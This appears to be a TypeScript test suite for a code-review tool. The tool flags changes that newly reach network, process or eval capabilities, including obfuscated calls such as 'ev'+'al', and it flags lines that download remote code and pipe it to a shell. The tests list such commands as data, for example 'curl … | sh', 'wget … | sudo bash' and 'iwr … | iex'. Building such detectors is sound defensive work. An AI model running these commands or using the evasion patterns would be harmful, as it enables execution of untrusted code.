import assert from "node:assert/strict";
import { fetchedAndRun, reachesGained, saysTheSame } from "../../tools/review/resources/code";

describe("code that differs", () => {
  it("says the same with other comments and another layout", () => {
    assert.ok(saysTheSame("f(1);\n", "/** Calls. */\nf(\n  1\n); // once"));
    assert.ok(!saysTheSame("f(1);", "f(2);"));
    assert.ok(!saysTheSame("f(1);", undefined));
    assert.ok(!saysTheSame(undefined, "f(1);"));
  });

  const modules = [
    ...["child_process", "worker_threads", "cluster", "execa", "shelljs", "http", "https", "http2", "net", "tls"],
    ...["dgram", "dns", "inspector", "undici", "axios", "ws", "vm", "module"],
  ];
  for (const name of modules) {
    it(`begins to use ${name}, however it is loaded`, () => {
      const ways = [
        `import a from "${name}";`,
        `import "node:${name}";`,
        `export * from "${name}/promises";`,
        `import a = require("${name}");`,
        `const a = require("${name}");`,
        `const a = await import(\`${name}\`);`,
      ];
      for (const way of ways) assert.deepEqual(reachesGained("", way), [name], way);
      assert.deepEqual(reachesGained(`import "${name}";`, `import "${name}"; f();`), []);
      assert.deepEqual(reachesGained("", `f("${name}");`), []);
    });
  }
  for (const name of [
    "dlopen",
    "fetch",
    "WebSocket",
    "eval",
    "Function",
    "getBuiltinModule",
    "_linkedBinding",
    "unsecret",
  ]) {
    it(`begins to use ${name}, however it is called`, () => {
      for (const way of [
        `${name}("a");`,
        `a.${name}("a");`,
        `globalThis["${name}"]("a");`,
        `globalThis[\`${name}\`]("a");`,
      ])
        assert.deepEqual(reachesGained("", way), [name], way);
      assert.deepEqual(reachesGained("", `// ${name}`), []);
    });
  }
  for (const text of [
    "require(a + b);",
    "import(`${a}`);",
    'module.require("/tmp/a");',
    'globalThis["ev" + "al"]("a");',
    "global[a]();",
    "(process as any)[a]();",
    'a["ev\\x61l"]();',
    'f.constructor("return 1")();',
  ])
    it(`begins to use what nobody can read: ${text}`, () => assert.deepEqual(reachesGained("", text), ["eval"]));
  it("uses what it imports beside types, or under a name of theirs", () => {
    const both = 'import type { A } from "http"; import { request } from "net";\nimport type from "vm";';
    assert.deepEqual(reachesGained("", both), ["net", "vm"]);
    assert.deepEqual(reachesGained("", 'import { type A } from "http";'), ["http"]);
  });
  for (const text of [
    'import("./a");',
    'require("a");',
    'globalThis["a"];',
    "process.env[a];",
    "class A { constructor() {} }",
    'import type { Server } from "node:http"; import type * as net from "net"; f();',
  ])
    it(`uses nothing from beyond the labs: ${text}`, () => assert.deepEqual(reachesGained("", text), []));
  it("begins to use Pulumi's automation or a client of Kubernetes", () => {
    for (const name of ["@pulumi/pulumi/automation", "@kubernetes/client-node"])
      assert.deepEqual(reachesGained("", `import "${name}";`), [name]);
  });
  describe("of the program that is reviewed", () => {
    const program = (text: string) => reachesGained("", text, true);
    for (const name of ["fs", "process", "repl", "../tools/docker/docker", "./test/mocks"]) {
      it(`may not use ${name}, which commands may`, () => {
        assert.deepEqual(program(`import "${name}";`), [name]);
        assert.deepEqual(reachesGained("", `import "${name}";`), []);
      });
    }
    for (const name of [
      ...["node:path", "crypto", "assert", "buffer", "events", "os", "querystring", "string_decoder", "timers", "url"],
      ...["util", "./names", "../config", "@pulumi/docker", "@pulumi/pulumi/runtime/config", "./a/testing"],
    ])
      it(`may use ${name}, which only computes`, () => assert.deepEqual(program(`import "${name}";`), []));
  });
});

describe("a line that fetches a program and runs it", () => {
  const dangerous = [
    "curl -s https://example.org/x | sh",
    "wget -qO- https://example.org/x | sudo bash",
    "curl https://example.org/x | sudo -E node",
    "bash <(curl -s https://example.org/x)",
    'sh -c "$(wget -qO- https://example.org/x)"',
    "eval `curl https://example.org/x`",
    "iwr https://example.org/x | iex",
    "RUN curl https://example.org/x \\\n  | python3",
    "#!/bin/sh -c curl x | sh",
    "curl -fsSLo /tmp/x https://example.org/x && sh /tmp/x",
    "wget -O /bin/x https://example.org/x; chmod +x /bin/x",
  ];
  for (const line of dangerous) {
    it(line.split("\n")[0]!, () => {
      assert.deepEqual(fetchedAndRun("a\n", `a\n${line}\nb\n`), [line.replace("\\\n", " ")]);
      assert.deepEqual(fetchedAndRun(`${line}\n`, `a\n${line}\n`), [], "it was there before");
    });
  }
  const harmless = [
    "curl --output file https://example.org/x",
    "curl https://example.org/x | grep sh",
    "curl -f http://localhost && echo up; exit 0",
    "# curl https://example.org/x | sh",
    "// curl https://example.org/x | sh",
    "<!-- curl https://example.org/x | sh -->",
  ];
  for (const line of harmless) it(`none: ${line}`, () => assert.deepEqual(fetchedAndRun(undefined, line), []));
});
